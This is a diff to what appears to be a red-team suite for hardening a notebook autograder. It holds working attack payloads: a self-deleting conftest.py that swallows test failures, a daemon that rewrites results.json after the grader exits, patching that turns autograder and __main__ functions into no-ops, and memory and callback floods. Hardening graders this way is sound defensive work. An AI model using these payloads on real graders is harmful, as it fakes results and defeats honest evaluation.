@@ -197,13 +197,21 @@ _leak()
 
 CONFTEST = r'''
 _conftest = """
+import os
 import pytest
 
 @pytest.hookimpl(wrapper=True)
-def pytest_runtest_makereport(item, call):
-    report = yield
-    report.outcome = "passed"
-    return report
+def pytest_runtest_call(item):
+    try:
+        return (yield)
+    except BaseException:
+        return None
+
+def pytest_sessionfinish(session):
+    try:
+        os.unlink(__file__)
+    except OSError:
+        pass
 """
 for _root in _roots():
     _write(_os.path.join(_root, "assignments/transformer_block/graders/conftest.py"), _conftest)
@@ -291,10 +299,16 @@ DAEMON_REWRITES = r'''
 _grader = _os.getppid()
 def _rewrite():
     import time as _time, sqlite3 as _sqlite3
+    _held = []
+    for _r in _roots():                  # a folder descriptor outlives the grader's /proc entry
+        try:
+            _held.append(f"/proc/self/fd/{_os.open(_r, _os.O_RDONLY | _os.O_DIRECTORY)}")
+        except Exception:
+            pass
     _end = _time.time() + 120
     while _time.time() < _end and _os.path.exists(f"/proc/{_grader}"):
         _time.sleep(0.05)
-    for _root in _roots()[:1]:
+    for _root in _held:
         for _rj in _glob.glob(_os.path.join(_root, "autograded", "*", _ASSIGNMENT, "results.json")):
             try:
                 _doc = _json.load(open(_rj))
@@ -389,7 +403,8 @@ class _NoRecord:
 def _nothing(*a, **k):
     return []
 for _name, _mod in list(_sys.modules.items()):
-    if not _name.startswith("autograder") or _mod is None:
+    _file = str(getattr(_mod, "__file__", "") or "")
+    if _mod is None or not (_name.startswith("autograder") or _name == "__main__" or "autograder" in _file):
         continue
     _vars = vars(_mod)
     for _k, _v in list(_vars.items()):
@@ -457,16 +472,27 @@ _own_mha = multi_head_attention
 def multi_head_attention(x, W_Q, W_K, W_V, W_O, n_heads, mask=None):
     for _i in range(3):
         try:
-            softmax(np.zeros((1, 6000, 6000)), axis=-1)
+            softmax(np.zeros((1, 3000, 3000)), axis=-1)
         except Exception:
             pass
     return _own_mha(x, W_Q, W_K, W_V, W_O, n_heads, mask)
+
+_own_block = pre_ln_block
+def pre_ln_block(x, params, n_heads, mask=None):
+    _w = np.zeros((1, 1))
+    for _i in range(2):
+        try:                             # (6000, 1) tokens: a 6000 x 6000 attention in whoever computes it
+            multi_head_attention(np.zeros((6000, 1)), _w, _w, _w, _w, 1)
+        except Exception:
+            pass
+    return _own_block(x, params, n_heads, mask)
 '''
 
 RETURN_FLOOD = r'''
 import numpy as np
-def layer_norm(x, gamma, beta, eps=1e-5):
-    return np.ones(32 * 2**20)                      # 256 MB back to the grader on every call
+def _flood(*args, **kwargs):
+    return np.ones(32 * 2**20 - 4096)          # just under 256 MB back to the grader on every call
+layer_norm = split_heads = merge_heads = multi_head_attention = pre_ln_block = silu = swiglu_ffn = _flood
 '''
 
 PRINT_FLOOD_CELL = 'print("@TOKEN@" * 6000 + "x" * 60000)'
@@ -670,11 +696,12 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("restart_amplification", "ln", "cells just under the cell limit and every function hanging "
            "(each call times out and restarts the notebook)", "one wall-clock budget per submission; a cap on restarts",
            early=_cells(*(SLOW_CELL,) * 6), cells=_cells(EVERYTHING_HANGS)),
-    Attack("callback_flood", "ln", "call a trusted helper with a 6000x6000 array from inside multi_head_attention",
+    Attack("callback_flood", "ln", "from inside the student's functions, call trusted helpers on inputs that cost "
+           "the grader a 6000x6000 attention (or a 3000x3000 softmax)",
            "no callbacks", cells=_cells(CALLBACK_FLOOD)),
     Attack("print_flood", "ln", "6000 cells printing 64 KiB each", "captured output capped and never accumulated",
            cells=_cells(PRINT_FLOOD_CELL), repeat_cells=6000),
-    Attack("return_flood", "ln", "layer_norm returns 256 MB on every call", "a cap on the bytes of a returned value",
+    Attack("return_flood", "ln", "every array function returns 256 MB on every call", "a cap on the bytes of a returned value",
            cells=_cells(RETURN_FLOOD)),
     # resource exhaustion
     Attack("memory_bomb", "ln", "allocate until MemoryError in a cell and in every layer_norm call",
